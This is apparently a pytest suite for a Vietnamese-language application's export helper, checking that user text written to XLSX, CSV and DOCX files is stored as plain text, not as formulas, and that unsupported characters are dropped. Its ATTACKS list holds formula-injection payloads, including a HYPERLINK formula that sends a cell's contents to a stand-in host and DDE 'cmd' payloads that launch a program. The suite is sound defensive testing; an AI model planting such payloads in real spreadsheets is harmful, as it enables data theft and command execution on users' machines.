"""The one helper for user text in files: never a formula, never a character the file cannot hold."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

import quantriet
from quantriet.core.cells import csv_row, file_text, xlsx_row

ATTACKS = [
    '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ thôn Tây")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "#DIV/0!",
]


def _write_and_read(values: list[object], *, write_only: bool, read_only: bool = False) -> list[object]:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Trang") if write_only else book.active
    sheet.append(xlsx_row(sheet, values))
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue()), read_only=read_only).worksheets[0]
    return list(next(sheet.iter_rows()))


@pytest.mark.parametrize("write_only", [True, False])
@pytest.mark.parametrize("read_only", [True, False])
def test_text_that_looks_like_a_formula_is_written_as_text_and_read_back_unchanged(
    write_only: bool, read_only: bool
) -> None:
    cells = _write_and_read(list(ATTACKS), write_only=write_only, read_only=read_only)
    assert [(c.value, c.data_type) for c in cells] == [(a, "s") for a in ATTACKS]  # type: ignore[attr-defined]


@pytest.mark.parametrize("write_only", [True, False])
def test_numbers_dates_and_blanks_keep_their_types(write_only: bool) -> None:
    cells = _write_and_read([7, 2.5, dt.date(2025, 9, 2), None, "", "Nguyễn Văn An"], write_only=write_only)
    values = [c.value for c in cells]  # type: ignore[attr-defined]
    assert values == [7, 2.5, dt.datetime(2025, 9, 2), None, None, "Nguyễn Văn An"]
    assert cells[-1].data_type == "s"  # type: ignore[attr-defined]


def test_characters_a_spreadsheet_cannot_hold_are_dropped_instead_of_failing_the_file() -> None:
    cells = _write_and_read(["Nguyễn\x01 Văn\x00 An\ud800\ufffe\x1f", "\x01\x02"], write_only=True)
    assert [c.value for c in cells] == ["Nguyễn Văn An"]  # type: ignore[attr-defined]


def test_a_docx_holds_any_cleaned_text() -> None:
    document = docx.Document()
    document.add_paragraph(file_text("Chi bộ\x01 thôn\x00 Tây\ud800\uffff"))
    out = io.BytesIO()
    document.save(out)
    assert docx.Document(io.BytesIO(out.getvalue())).paragraphs[0].text == "Chi bộ thôn Tây"


@settings(max_examples=80, deadline=None)
@given(st.text(max_size=60))
def test_any_text_is_written_to_both_formats_and_read_back_as_text(text: str) -> None:
    kept = file_text(text)
    cells = _write_and_read([text, "cuối"], write_only=True)  # the last cell keeps the row when text is empty
    if kept:
        assert (cells[0].value, cells[0].data_type) == (kept, "s")  # type: ignore[attr-defined]
    else:
        assert cells[0].value is None  # type: ignore[attr-defined]
    document = docx.Document()
    document.add_paragraph(kept)
    document.save(io.BytesIO())


def test_csv_cells_that_would_start_a_formula_begin_with_an_apostrophe() -> None:
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*ATTACKS[:4], "Nguyễn Văn An", 12, None]))
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert [cell[0] for cell in row[:4]] == ["'"] * 4
    assert row[0] == "'" + ATTACKS[0]
    assert row[4:] == ["Nguyễn Văn An", "12", ""]
    assert csv_row(["\t=1", "\r=1", "@A1", "#N/A"]) == ["'\t=1", "'\r=1", "'@A1", "#N/A"]


def test_every_module_that_writes_a_spreadsheet_or_document_goes_through_the_helper() -> None:
    """A new export that forgets the helper would bring formulas and 500s back: it fails here instead."""
    package = Path(quantriet.__file__).parent
    writers = re.compile(r"\bWorkbook\(|docx\.Document\(\)|csv\.(?:writer|DictWriter)\(")
    forgetful = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if writers.search(source := path.read_text(encoding="utf-8"))
        and "quantriet.core.cells import" not in source
        and path.name != "cells.py"
    ]
    assert forgetful == []
